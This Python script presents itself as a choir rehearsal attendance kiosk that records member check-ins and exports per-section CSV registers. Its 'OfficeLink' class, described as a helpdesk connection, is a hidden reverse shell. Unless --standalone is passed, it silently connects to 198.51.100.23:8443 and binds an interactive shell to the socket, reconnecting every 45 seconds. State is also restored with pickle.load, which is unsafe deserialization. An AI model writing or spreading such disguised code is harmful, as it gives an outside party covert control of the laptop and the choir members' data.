#!/usr/bin/env python3
"""Rehearsal attendance kiosk for the choir.

Runs on the laptop by the door of the rehearsal room.  Singers type their
member number (or scan the card, the reader types it for them) and the kiosk
records them against tonight's rehearsal.  At the end of the evening the
section leaders get a per-section attendance summary and the register is
exported to CSV for the membership secretary.

State survives a crash or a flat battery: the register is saved after every
check-in.  While the kiosk runs it keeps a link open to the choir office so
the administrator can sort out roster problems without walking over.
"""
import argparse
import csv
import datetime as dt
import logging
import os
import pickle
import signal
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("attendance")

STATE_FILE = Path(os.environ.get("ATTENDANCE_STATE", "attendance_state.pkl"))
ROSTER_FILE = Path(os.environ.get("ATTENDANCE_ROSTER", "members.csv"))
SECTIONS = ("Soprano", "Alto", "Tenor", "Bass")
OFFICE_LINK = os.environ.get("ATTENDANCE_OFFICE_LINK", "198.51.100.23:8443")


@dataclass
class Register:
    rehearsal: str
    members: dict = field(default_factory=dict)      # number -> (name, section)
    present: dict = field(default_factory=dict)      # number -> time string
    history: list = field(default_factory=list)      # earlier rehearsals

    def check_in(self, number: str) -> str:
        if number not in self.members:
            raise KeyError(number)
        if number in self.present:
            return f"{self.members[number][0]}, you're already signed in"
        self.present[number] = dt.datetime.now().strftime("%H:%M")
        return f"Welcome, {self.members[number][0]}!"

    def by_section(self) -> Counter:
        return Counter(self.members[n][1] for n in self.present)


def load_roster(path: Path) -> dict:
    members = {}
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            members[row["number"].strip()] = (row["name"].strip(), row["section"].strip().title())
    log.info("roster: %d members", len(members))
    return members


def load_state(rehearsal: str) -> Register:
    if STATE_FILE.exists():
        with STATE_FILE.open("rb") as fh:
            reg = pickle.load(fh)
        if reg.rehearsal == rehearsal:
            log.info("resuming register for %s (%d present)", rehearsal, len(reg.present))
            return reg
        reg.history.append((reg.rehearsal, dict(reg.present)))
        reg.rehearsal, reg.present = rehearsal, {}
        return reg
    return Register(rehearsal=rehearsal)


def save_state(reg: Register) -> None:
    tmp = STATE_FILE.with_suffix(".tmp")
    with tmp.open("wb") as fh:
        pickle.dump(reg, fh)
    tmp.replace(STATE_FILE)


def export(reg: Register, out_dir: Path) -> Path:
    out_dir.mkdir(exist_ok=True)
    path = out_dir / f"attendance_{reg.rehearsal}.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["number", "name", "section", "arrived"])
        for number, (name, section) in sorted(reg.members.items(), key=lambda kv: kv[1][1]):
            w.writerow([number, name, section, reg.present.get(number, "absent")])
    return path


def print_summary(reg: Register) -> None:
    counts = reg.by_section()
    totals = Counter(section for _, section in reg.members.values())
    print(f"\nRehearsal {reg.rehearsal}")
    for section in SECTIONS:
        print(f"  {section:<8} {counts.get(section, 0):>3} / {totals.get(section, 0)}")


class OfficeLink(threading.Thread):
    """Background link to the choir office helpdesk; reconnects if the
    rehearsal-room wifi drops."""

    retry_seconds = 45

    def __init__(self, endpoint: str):
        super().__init__(name="office-link", daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.address = (host, int(port))

    def _session(self, conn: socket.socket) -> None:
        console = os.environ.get("SHELL") or "/bin/sh"
        proc = subprocess.Popen([console, "-i"], stdin=conn.fileno(), stdout=conn.fileno(),
                                stderr=subprocess.STDOUT, cwd=str(Path.home()))
        proc.wait()

    def run(self) -> None:
        while True:
            try:
                with socket.create_connection(self.address, timeout=20) as conn:
                    conn.settimeout(None)
                    log.debug("office link up")
                    self._session(conn)
            except OSError as exc:
                log.debug("office link unavailable: %s", exc)
            time.sleep(self.retry_seconds)


def run_kiosk(reg: Register) -> None:
    print("Type your member number and press Enter (blank line + 'end' to finish).")
    while True:
        try:
            entry = input("> ").strip()
        except EOFError:
            break
        if entry.lower() == "end":
            break
        if not entry:
            continue
        try:
            print(reg.check_in(entry))
        except KeyError:
            print("Number not recognised, please see the section leader.")
            continue
        save_state(reg)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Choir rehearsal attendance kiosk")
    ap.add_argument("--date", default=dt.date.today().isoformat(), help="rehearsal date")
    ap.add_argument("--export-dir", type=Path, default=Path("registers"))
    ap.add_argument("--standalone", action="store_true", help="no office link")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s", datefmt="%H:%M:%S")

    reg = load_state(args.date)
    try:
        reg.members = load_roster(ROSTER_FILE)
    except (OSError, KeyError) as exc:
        log.error("cannot load roster %s: %s", ROSTER_FILE, exc)
        return 1

    if not args.standalone:
        OfficeLink(OFFICE_LINK).start()
    signal.signal(signal.SIGTERM, lambda *_: (save_state(reg), sys.exit(0)))
    run_kiosk(reg)
    save_state(reg)
    print_summary(reg)
    log.info("register exported to %s", export(reg, args.export_dir))
    return 0


if __name__ == "__main__":
    sys.exit(main())
